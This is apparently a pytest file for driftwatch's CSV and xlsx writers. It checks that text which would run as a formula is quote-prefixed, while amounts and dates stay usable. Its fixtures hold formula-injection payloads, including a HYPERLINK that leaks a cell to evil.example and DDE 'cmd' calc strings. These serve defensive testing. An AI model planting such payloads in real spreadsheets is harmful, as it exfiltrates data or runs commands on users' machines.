"""No spreadsheet formula from data, anywhere driftwatch writes CSV or xlsx, and cells finance can use as
they are. Every writer is checked by reading its files back: csv for CSV, openpyxl for xlsx."""

from __future__ import annotations

import csv
import shutil
from datetime import UTC, datetime
from decimal import Decimal
from pathlib import Path

import click
import openpyxl
import polars as pl
import pytest
from click.testing import CliRunner
from helpers_alerts import finding, findings_frame

from driftwatch.cli._common import emit
from driftwatch.config import load_config, parse_config
from driftwatch.connectors.bluecherry.push import Pusher as BlueCherryPusher
from driftwatch.filedrop import load_directory
from driftwatch.payouts import reconcile, write_outputs
from driftwatch.push import Action
from driftwatch.report import export_findings
from driftwatch.spreadsheet import csv_cells, restored
from driftwatch.store import Store

FIXTURE = Path(__file__).parent.parent / "fixtures" / "payouts"
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
LINK = '=HYPERLINK("http://evil.example/?leak="&A1,"M-1")'
HOSTILE_DOCUMENT = "@SUM(1+1)"
HOSTILE_ORDER = "=2+3"


def is_number(text: str) -> bool:
    try:
        Decimal(text)
    except ArithmeticError:
        return False
    return text.strip().lower() not in ("nan", "inf", "-inf", "+inf", "infinity", "-infinity", "+infinity")


def csv_cells_of(path: Path) -> list[list[str]]:
    with path.open(newline="", encoding="utf-8") as handle:
        return list(csv.reader(handle))


def assert_no_formula_in_csv(path: Path) -> None:
    """A spreadsheet runs a cell starting with a trigger, unless the cell is a plain number."""
    for row in csv_cells_of(path):
        for cell in row:
            assert not (cell.startswith(TRIGGERS) and not is_number(cell)), (path.name, cell)


def assert_no_formula_in_xlsx(path: Path) -> int:
    """No formula cell at all, and text that looks like one is quote-prefixed (stays text when edited).
    Gives how many such text cells the workbook holds."""
    looks_like_formula = 0
    for sheet in openpyxl.load_workbook(path).worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str) and cell.value.startswith(TRIGGERS):
                    assert cell.quotePrefix, (sheet.title, cell.coordinate, cell.value)
                    looks_like_formula += 1
    return looks_like_formula


# ------------------------------------------------------------------------------------------------ cells


@pytest.mark.parametrize(
    ("text", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+1+1", "'+1+1"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("'=1+1", "''=1+1"),  # already quoted by someone: quoted again, so reading back gives it unchanged
        ("-inf", "'-inf"),  # not a number to a spreadsheet
        ("-", "'-"),
        ("-15.00", "-15.00"),  # numbers stay numbers
        ("+3", "+3"),
        ("-1.5e3", "-1.5e3"),
        ("'-15.00", "'-15.00"),
        ("M-1", "M-1"),
        (" =1+1", " =1+1"),
        ("", ""),
    ],
)
def test_text_a_spreadsheet_would_run_gets_a_leading_quote_and_reads_back_unchanged(text: str, written: str) -> None:
    cells = csv_cells(pl.DataFrame({"text": [text]}))
    assert cells["text"][0] == written
    assert cells.select(restored(pl.col("text")))["text"][0] == text


def test_money_to_the_minor_unit_of_each_rows_currency_and_finer_only_where_it_holds_more() -> None:
    amounts = ["45", "-0.125", "4500", "4500.5", "1.2", "1.2345", "3", "-1.5375", "-0.0050", "0", None]
    currencies = ["EUR", "GBP", "JPY", "JPY", "KWD", "KWD", None, "EUR", "eur", "XYZ", "EUR"]
    frame = pl.DataFrame(
        {"amount": [None if a is None else Decimal(a) for a in amounts], "currency": currencies},
        schema={"amount": pl.Decimal(18, 4), "currency": pl.String},
    )
    cells = csv_cells(frame)["amount"].to_list()
    assert cells == ["45.00", "-0.125", "4500", "4500.5", "1.200", "1.2345", "3.00", "-1.5375", "-0.005", "0.00", None]
    # Never rounded: each cell reads back as the very amount.
    assert [None if c is None else Decimal(c) for c in cells] == [None if a is None else Decimal(a) for a in amounts]


def test_accounting_dates_as_dates_and_times_to_the_second_in_utc() -> None:
    moment = datetime(2026, 10, 31, 23, 0, 5, 120, tzinfo=UTC)
    frame = pl.DataFrame({"document_date": [moment], "transaction_date": [moment]})
    cells = csv_cells(frame, dates=("document_date",))
    assert cells.row(0) == ("2026-10-31", "2026-10-31 23:00:05")


# ------------------------------------------------------------------------------------------------ payouts


@pytest.fixture
def hostile_close(tmp_path: Path) -> tuple[list[Path], Path]:
    """The fixture plus one October document whose ids and order references are formulas, reconciled and
    written out."""
    drop = tmp_path / "drop"
    shutil.copytree(FIXTURE / "retailer", drop)
    lines_path = drop / "mirakl" / "payout_lines.csv"
    lines = pl.read_csv(lines_path, infer_schema=False)
    hostile = pl.DataFrame(
        [
            ("=1+1", HOSTILE_DOCUMENT, LINK, "order_amount", "12.00", "EUR", "2026-10-20T10:00:00Z"),
            ("+1+1", HOSTILE_DOCUMENT, LINK, "commission", "-1.80", "EUR", "2026-10-20T10:00:00Z"),
            ("-1+1", HOSTILE_DOCUMENT, None, "fee", "-2.00", "EUR", "2026-10-20T00:00:00Z"),
            ("@pay", HOSTILE_DOCUMENT, None, "payment", "8.20", "EUR", "2026-10-25T00:00:00Z"),
        ],
        schema=lines.columns,
        orient="row",
    )
    pl.concat([lines, hostile]).write_csv(lines_path)
    orders_path = drop / "bluecherry" / "orders.csv"
    orders = pl.read_csv(orders_path, infer_schema=False)
    order = pl.DataFrame(
        [(HOSTILE_ORDER, LINK, "mirakl", "delivered", "2026-10-19T09:00:00Z", "12.00", "EUR")],
        schema=orders.columns,
        orient="row",
    )
    pl.concat([orders, order]).write_csv(orders_path)
    cfg = load_config(FIXTURE / "driftwatch.toml")
    with Store(tmp_path / "driftwatch.duckdb") as store:
        assert load_directory(store, drop, cfg).quarantine.height == 0
        result = reconcile(store, cfg, "2026-10")
    assert HOSTILE_DOCUMENT in result.documents["payout_id"].to_list()
    return write_outputs(result, tmp_path / "out"), tmp_path / "out"


def test_the_payouts_workbook_holds_no_formula_and_keeps_the_hostile_text_as_text(hostile_close) -> None:
    written, _ = hostile_close
    workbook = written[0]
    assert assert_no_formula_in_xlsx(workbook) >= 4
    book = openpyxl.load_workbook(workbook)
    texts = {cell.value for sheet in book.worksheets for row in sheet.iter_rows() for cell in row}
    assert {LINK, HOSTILE_DOCUMENT, HOSTILE_ORDER, "=1+1", "+1+1", "-1+1"} <= texts


def test_the_payouts_workbook_has_real_number_and_date_cells(hostile_close) -> None:
    written, _ = hostile_close
    matched = openpyxl.load_workbook(written[0])["matched"]
    header = [cell.value for cell in matched[1]]
    rows = {row[header.index("line_id")].value: row for row in matched.iter_rows(min_row=2)}
    commission = rows["L2"]  # -15.00 EUR
    amount = commission[header.index("amount")]
    assert amount.data_type == "n" and amount.value == -15.0
    assert amount.number_format.startswith("#,##0.00") and "EUR" in amount.number_format
    document_date = commission[header.index("document_date")]
    assert document_date.is_date and document_date.value == datetime(2026, 10, 10)
    assert document_date.number_format == "yyyy-mm-dd"
    moment = commission[header.index("transaction_date")]
    assert moment.is_date and moment.value == datetime(2026, 10, 2, 10, 0)


def test_the_payouts_csvs_hold_no_formula_and_negative_amounts_read_as_numbers(hostile_close) -> None:
    written, out = hostile_close
    csvs = [path for path in written if path.suffix == ".csv"]
    assert {path.name for path in csvs} >= {"matched.csv", "journal_entries.csv", f"journal-import-{'2026-10'}.csv"}
    for path in csvs:
        assert_no_formula_in_csv(path)
    with (out / "matched.csv").open(newline="") as handle:
        matched = {row["line_id"]: row for row in csv.DictReader(handle)}
    assert matched["L2"]["amount"] == "-15.00" and Decimal(matched["L2"]["amount"]) == Decimal("-15.00")
    assert matched["L2"]["document_date"] == "2026-10-10"
    assert matched["'+1+1"]["external_id"] == "'" + LINK  # the hostile commission, quoted and kept whole
    with (out / "summary.csv").open(newline="") as handle:
        eur = next(row for row in csv.DictReader(handle) if row["currency"] == "EUR")
    assert (
        float(eur["commission"]) < 0 and eur["commission"].count(".") == 1 and len(eur["commission"].split(".")[1]) == 2
    )


def test_the_journal_import_file_holds_no_formula_and_balances_as_numbers(hostile_close) -> None:
    _, out = hostile_close
    path = out / "journal-import-2026-10.csv"
    assert_no_formula_in_csv(path)
    with path.open(newline="") as handle:
        rows = list(csv.DictReader(handle))
    hostile = [row for row in rows if row["Reference"] == "'" + HOSTILE_DOCUMENT]
    assert hostile and {row["Order No"] for row in hostile if row["Order No"]} == {"'" + HOSTILE_ORDER}
    assert sum(Decimal(r["Debit"]) for r in hostile) == sum(Decimal(r["Credit"]) for r in hostile) > 0
    assert all(len(r["Debit"].split(".")[1]) == 2 for r in rows)


def test_the_summary_sheet_says_which_commission_rate_was_assumed(tmp_path: Path) -> None:
    with Store(tmp_path / "driftwatch.duckdb") as store:
        load_directory(store, FIXTURE / "retailer", parse_config({}))
        result = reconcile(store, parse_config({}), "2026-10")
    written = write_outputs(result, tmp_path / "out")
    summary = openpyxl.load_workbook(written[0])["summary"]
    texts = [cell.value for row in summary.iter_rows() for cell in row if isinstance(cell.value, str)]
    assumed = [text for text in texts if "assumed" in text]
    assert len(assumed) == 1 and "15.00%" in assumed[0] and "[payouts.commission]" in assumed[0]


# ------------------------------------------------------------------------------------------------ other writers


def action(action_id: str, after: str | None) -> Action:
    return Action(
        action_id=action_id,
        platform="bluecherry",
        target="mirakl",
        action="create_journal_entry",
        check_id="payout_matching",
        entity="payout_lines",
        key=HOSTILE_DOCUMENT,
        field="journal_entry",
        before=None,
        after=after,
        fingerprint="f" + action_id,
        truth={"note": LINK},
    )


def test_the_erp_import_files_hold_no_formula_and_read_back_as_written(tmp_path: Path) -> None:
    pusher = BlueCherryPusher({"outbox": str(tmp_path / "outbox")})
    batch = [action("a1", LINK), action("a2", "-15.00"), action("a3", "'=x"), action("a4", None)]
    pusher.push(batch)
    (written,) = sorted((tmp_path / "outbox").glob("driftwatch-*.csv"))
    assert_no_formula_in_csv(written)
    values = {row["action_id"]: row["value"] for row in csv.DictReader(written.open(newline=""))}
    assert values["a2"] == "-15.00"  # a negative amount is still a number
    assert pusher.read(batch) == {"a1": LINK, "a2": "-15.00", "a3": "'=x", "a4": None}


def test_report_export_holds_no_formula(tmp_path: Path) -> None:
    row = finding(
        "catalogue_parity",
        "klaviyo",
        "=cmd|' /C calc'!A0",
        field="name",
        expected=LINK,
        actual="-3",
        impact="-12.5",
        message="@SUM(1+1)",
    )
    path = export_findings(findings_frame([row]), tmp_path / "findings.csv", mask=False)
    assert_no_formula_in_csv(path)
    (exported,) = list(csv.DictReader(path.open(newline="")))
    assert (exported["actual"], exported["impact"]) == ("-3", "-12.50")
    assert exported["expected"] == "'" + LINK


def test_csv_on_standard_output_holds_no_formula(tmp_path: Path) -> None:
    frame = pl.DataFrame({"key": [LINK, "SKU-1"], "amount": [Decimal("-4"), Decimal("2")], "currency": ["EUR", "EUR"]})

    @click.command()
    def show() -> None:
        emit(frame, "csv")

    output = CliRunner().invoke(show).stdout
    path = tmp_path / "out.csv"
    path.write_text(output)
    assert_no_formula_in_csv(path)
    assert csv_cells_of(path)[1:] == [["'" + LINK, "-4.00", "EUR"], ["SKU-1", "2.00", "EUR"]]
